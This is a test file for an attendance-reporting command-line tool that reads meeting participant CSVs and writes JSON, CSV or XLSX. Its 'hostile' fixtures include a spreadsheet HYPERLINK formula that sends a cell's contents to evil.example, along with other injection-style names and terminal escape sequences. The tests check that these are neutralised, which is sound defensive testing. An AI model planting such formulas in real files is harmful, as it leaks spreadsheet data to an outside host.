import { readXlsx } from 'hucre/xlsx'
import { parse } from 'csv-parse/sync'
import { spawn } from 'node:child_process'
import { chmod, mkdir, mkdtemp, readdir, readFile, rm, stat, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { refused } from '../../../server/cli/file-source.ts'
import type { Answer } from '../../../shared/people/index.ts'
import { expectPublished } from '../../support/people-schema.ts'

const program = join(import.meta.dirname, '../../../server/cli/rollbook.ts')
const tsx = import.meta.resolve('tsx')
let folder: string

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'rollbook-people-'))
  for (const [name, text] of Object.entries(files)) await writeFile(join(folder, name), text)
})
afterAll(async () => {
  await rm(folder, { recursive: true, force: true })
})

/** The command as a process of its own in the folder of our files, without any environment. */
function start(words: string[]) {
  const child = spawn(process.execPath, ['--import', tsx, program, 'people', ...words], {
    cwd: folder,
    env: { PATH: process.env['PATH'] ?? '' },
  })
  const stdout: Buffer[] = []
  const stderr: Buffer[] = []
  child.stdout.on('data', (piece: Buffer) => stdout.push(piece))
  child.stderr.on('data', (piece: Buffer) => stderr.push(piece))
  const ended = new Promise<{ code: number | null; stdout: string; stderr: string }>((resolve) => {
    child.on('close', (code) => {
      resolve({ code, stdout: Buffer.concat(stdout).toString('utf8'), stderr: plain(Buffer.concat(stderr)) })
    })
  })
  return { child, ended }
}
const people = (...words: string[]) => start(words).ended
const plain = (text: Buffer): string => text.toString('utf8').replaceAll(/[\u2068\u2069]/g, '')

const header = 'Name (Original Name),User Email,Join Time,Leave Time,Duration (Minutes)\n'
const formula = '=HYPERLINK("http://evil.example/?"&A2;"name")'
const hostile = [
  `"${formula.replaceAll('"', '""')}"`,
  '+7 900 000',
  '@cmd',
  '"tab\tand\nbreak"',
  '</script>',
  '\u202Eabc',
  '\u0001ding',
  '_x0041_',
]
const files: Record<string, string> = {
  'latin.csv': `Meeting ID,Topic,Start Time,End Time,User Email,Duration (Minutes),Participants
812 3456 7890,Latin,03/12/2026 06:04:00 PM,03/12/2026 07:52:00 PM,host@school.example,108,3

${header}Anna Berg,Anna@School.example,03/12/2026 06:04:00 PM,03/12/2026 07:25:00 PM,81
Boris,,03/12/2026 06:10:00 PM,03/12/2026 07:00:00 PM,50
iPhone,,03/12/2026 06:10:00 PM,03/12/2026 07:00:00 PM,50
`,
  'greek.csv': `Meeting ID,Topic,Start Time,End Time,User Email,Duration (Minutes),Participants
812 3456 7891,Greek,03/13/2026 06:00:00 PM,03/13/2026 07:00:00 PM,host@school.example,60,1

${header}Anna Berg,Anna@School.example,03/13/2026 06:00:00 PM,03/13/2026 07:00:00 PM,60
`,
  'open.csv': `${header}Anna,,03/04/2026 18:00:00,03/04/2026 19:00:00,60\n`,
  'chat.txt': '18:00:01\tFrom Anna to Everyone:\thello\n18:00:09\tFrom Boris to Everyone:\thi\n',
  'hostile.csv':
    header + hostile.map((name, i) => `${name},,03/13/2026 18:0${i}:00,03/13/2026 19:00:00,60\n`).join(''),
}

describe('rollbook people', () => {
  it('answers as its published schema says, with the sentence on top and warnings on standard error', async () => {
    const { code, stdout, stderr } = await people('latin.csv', '--min-share', '75')
    expect(code).toBe(0)
    const answer = JSON.parse(stdout) as Answer
    expectPublished(answer)
    expect(answer.summary).toEqual({
      sentence: '3 people came (1 certain, 1 likely, 1 unidentified); 1 stayed 75 % of 18:04–19:52.',
      ...{ rows: 3, people: 3, certain: 1, likely: 1, unidentified: 1, conflicts: 0 },
      ...{ waitingRoomOnly: 0, registeredNoShow: null, presentSeconds: 10_860 },
    })
    expect(answer.meetings).toEqual([
      {
        ...{ id: 'm1', file: 'latin.csv', number: '81234567890', topic: 'Latin', kind: 'meeting' },
        ...{ startedAt: '2026-03-12T18:04:00Z', endedAt: '2026-03-12T19:52:00Z', zone: 'UTC', rows: 3 },
      },
    ])
    expect(answer.people[0]).toMatchObject({
      ...{ name: 'Anna Berg', email: 'anna@school.example', share: 0.75, meetsMinimum: true },
    })
    expect(answer.warnings.map((warning) => warning.code)).toEqual(['zone_not_given', 'date_order_assumed'])
    expect(stderr).toMatch(/^latin\.csv: .*--tz.*\nlatin\.csv, line 2: .*--dates dmy\.\n$/)
  })

  it('reads times in the zone given', async () => {
    const { stdout, stderr } = await people('latin.csv', '--tz', 'Asia/Yekaterinburg', '--dates', 'mdy')
    const answer = JSON.parse(stdout) as Answer
    expect(answer.meetings[0]).toMatchObject({
      startedAt: '2026-03-12T13:04:00Z',
      zone: 'Asia/Yekaterinburg',
    })
    expect(stderr).toBe('')
  })

  it('says with exit code 2, file, line and option what it cannot understand, of all files at once', async () => {
    const { code, stdout, stderr } = await people('open.csv', 'chat.txt', 'latin.csv')
    expect([code, stdout]).toEqual([2, ''])
    const [first, second, ...more] = stderr.trimEnd().split('\n')
    expect(first).toMatch(/^open\.csv, line 2: .*--dates dmy or --dates mdy\.$/)
    expect(second).toMatch(/^chat\.txt: This is the chat of a meeting/)
    expect(more).toEqual([])
  })

  it.each([
    [['latin.csv', '--tz', 'Mars/Olympus'], /"Mars\/Olympus" is no time zone/],
    [['latin.csv', '--base', '25:00-26:00'], /"25:00-26:00" is no base/],
    [['latin.csv', '--base', '18:00-18:00'], /is no base/],
    [['latin.csv', '--min-share', '101'], /from 0 to 100/],
    [['latin.csv', '--min-share', 'most'], /from 0 to 100/],
    [['latin.csv', '--dates', 'ydm'], /dmy, mdy, ymd/],
    [['latin.csv', '--format', 'pdf'], /json, csv, xlsx/],
    [['latin.csv', '--frobnicate'], /--frobnicate[^]*Usage: rollbook people/],
    [['latin.csv', '--out', '.'], /is a folder/],
    [['latin.csv', '--out', 'latin.csv'], /one of the files to read/],
    [[], /^Usage: rollbook people/],
  ])('answers wrong usage with 64 and a sentence: %j', async (words, sentence) => {
    const { code, stdout, stderr } = await people(...words)
    expect([code, stdout]).toEqual([64, ''])
    expect(stderr).toMatch(sentence)
  })

  it('knows a zone in whatever capitals, and tells it in its own', async () => {
    const { stdout } = await people('latin.csv', '--tz', 'asia/yekaterinburg', '--dates', 'mdy')
    expect((JSON.parse(stdout) as Answer).meetings[0]?.zone).toBe('Asia/Yekaterinburg')
  })

  it.each([
    ['ENOENT', /is not there/],
    ['EACCES', /may not be opened by you/],
    ['ENOSPC', /no room left/],
    ['EIO', /can neither be read nor written: broken/],
  ])('says in a sentence what the file system refuses: %s', (code, sentence) => {
    expect(refused('lesson.csv', Object.assign(new Error('broken'), { code }))).toMatch(sentence)
  })

  it('answers --help on standard output', async () => {
    const { code, stdout, stderr } = await people('--help')
    expect([code, stderr]).toEqual([0, ''])
    expect(stdout).toMatch(/^Usage: rollbook people FILE…/)
  })

  it('names every file that is not there, and reads none', async () => {
    const { code, stdout, stderr } = await people('latin.csv', 'missing.csv', 'gone.csv')
    expect([code, stdout]).toEqual([1, ''])
    expect(stderr).toMatch(/^missing\.csv is not there[^\n]*\ngone\.csv is not there/)
  })

  it('puts a whole file in place of an old one, and leaves nothing beside it', async () => {
    const own = join(folder, 'own')
    await mkdir(own)
    await writeFile(join(own, 'people.csv'), 'old')
    const { code, stdout, stderr } = await people('latin.csv', '--out', join('own', 'people.csv'))
    expect([code, stdout]).toEqual([0, ''])
    expect(stderr).toMatch(/\n3 people came .*\.\n$/)
    expect(await readdir(own)).toEqual(['people.csv'])
    expect(await readFile(join(own, 'people.csv'), 'utf8')).toMatch(/^\ufeffname,/)
  })

  it('opens the answer to nobody who could not read the file before it', async () => {
    const out = join(folder, 'private.json')
    const mode = async (): Promise<string> => ((await stat(out)).mode & 0o777).toString(8)
    await people('latin.csv', '--out', 'private.json')
    expect(await mode()).toBe('600')
    await chmod(out, 0o640)
    await people('latin.csv', '--out', 'private.json')
    expect(await mode()).toBe('640')
  })

  it('takes a whole day as a window, and any number as a minimum', async () => {
    const { code, stdout } = await people('latin.csv', '--base', '00:00-24:00', '--min-share', '5.625')
    expect(code).toBe(0)
    const answer = JSON.parse(stdout) as Answer
    expect(answer.people.map(({ share, meetsMinimum }) => [share, meetsMinimum])).toEqual([
      // 81 minutes of a day are 5.625 %, told as 5.6 %.
      [0.056, false],
      [0.034, false],
      [0.034, false],
    ])
    expect(answer.summary.sentence).toContain('nobody stayed 5.625 % of')
  })

  it('writes no control character of a file’s name to the terminal', async () => {
    await writeFile(join(folder, 'a\u001b]0;b\u009bc.csv'), files['latin.csv'] ?? '')
    const { stderr } = await people('a\u001b]0;b\u009bc.csv')
    expect(stderr).toContain('a\u241b]0;b\ufffdc.csv: The file does not say')
    const missing = await people('no\u001b[2J.csv')
    expect(missing.stderr).toMatch(/^no\u241b\[2J\.csv is not there/)
  })

  it('leaves what was there when it cannot go on', async () => {
    await writeFile(join(folder, 'kept.json'), 'old')
    const { code } = await people('open.csv', '--out', 'kept.json')
    expect(code).toBe(2)
    expect(await readFile(join(folder, 'kept.json'), 'utf8')).toBe('old')
  })

  it('is quiet when whoever reads its output goes away', async () => {
    const many =
      header +
      Array.from(
        { length: 20_000 },
        (_, i) => `Person ${i},,03/13/2026 18:00:00,03/13/2026 19:00:00,60\n`,
      ).join('')
    await writeFile(join(folder, 'many.csv'), many)
    const { child, ended } = start(['many.csv', '--tz', 'UTC'])
    child.stdout.once('data', () => child.stdout.destroy())
    const { stderr } = await ended
    // A slow machine is told on the way how far the reading is.
    const told = stderr.split('\n').filter((line) => line !== '' && !line.startsWith('Reading many.csv'))
    expect(told).toEqual([expect.stringMatching(/^many\.csv: .*first join/)])
  })
})

describe('names that would run', () => {
  it('are harmless in CSV, and cost no column', async () => {
    const { stdout } = await people('hostile.csv', '--tz', 'UTC', '--format', 'csv')
    const rows = parse<Record<string, string>>(stdout, { bom: true, columns: true })
    const names = rows.map((row) => row['name'] ?? '')
    expect(names).toContain(`'${formula}`)
    expect(names).toContain("'+7 900 000")
    expect(names).toContain("'@cmd")
    expect(rows.every((row) => row['presentSeconds'] !== '')).toBe(true)
  })

  it('are literally themselves in JSON', async () => {
    const { stdout } = await people('hostile.csv', '--tz', 'UTC')
    const names = (JSON.parse(stdout) as Answer).people.map(({ name }) => name)
    expect(names).toContain(formula)
    expect(names).toContain('tab\tand\nbreak')
  })

  it('are text in the workbook, and what XML forbids is shown', async () => {
    const { code } = await people('hostile.csv', '--tz', 'UTC', '--out', 'hostile.xlsx')
    expect(code).toBe(0)
    const { sheets } = await readXlsx(await readFile(join(folder, 'hostile.xlsx')))
    const names = sheets[0]?.rows.slice(1).map(([name]) => name)
    expect(names).toEqual([
      formula,
      '+7 900 000',
      '@cmd',
      'tab\tand\nbreak',
      '</script>',
      '\u202Eabc',
      '\u2401ding',
      '_x0041_',
    ])
  })
})

describe('the workbook', () => {
  it('has one typed sheet with a header that stays and filters', async () => {
    await people('latin.csv', '--tz', 'Europe/Berlin', '--min-share', '75', '--out', 'latin.xlsx')
    const { sheets } = await readXlsx(await readFile(join(folder, 'latin.xlsx')))
    expect(sheets).toHaveLength(1)
    const [sheet] = sheets
    expect(sheet).toMatchObject({ name: 'People', freezePane: { rows: 1 }, autoFilter: { range: 'A1:Q4' } })
    const [headers = [], first = []] = sheet?.rows ?? []
    const anna = Object.fromEntries(headers.map((text, at) => [String(text), first[at]]))
    expect(anna).toMatchObject({
      ...{ Name: 'Anna Berg', 'E-mail': 'anna@school.example', Rows: 1 },
      ...{ 'Share (% of 18:04–19:52)': 0.75, 'At least 75 %': 'yes' },
      // As the clocks in Berlin showed it.
      'First join (Europe/Berlin)': new Date('2026-03-12T18:04:00Z'),
    })
  })

  it.each([
    [['latin.csv'], 'Share (% of 18:04–19:52)', 'Minimum'],
    [['latin.csv', 'greek.csv', '--min-share', '66.5'], 'Share (% of both meetings)', 'At least 66.5 %'],
    [
      ['latin.csv', 'greek.csv', '--base', '18:00-19:30'],
      'Share (% of 18:00–19:30 in both meetings)',
      'Minimum',
    ],
    [
      ['latin.csv', '--base', 'scheduled', '--min-share', '75'],
      'Share (nothing counts as 100 %)',
      'At least 75 %',
    ],
  ])('names what 100 %% is above the shares: %j', async (words, share, minimum) => {
    await people(...words, '--tz', 'UTC', '--dates', 'mdy', '--out', 'named.xlsx')
    const { sheets } = await readXlsx(await readFile(join(folder, 'named.xlsx')))
    const headers = sheets[0]?.rows[0] ?? []
    expect([headers[7], headers[8]]).toEqual([share, minimum])
  })
})
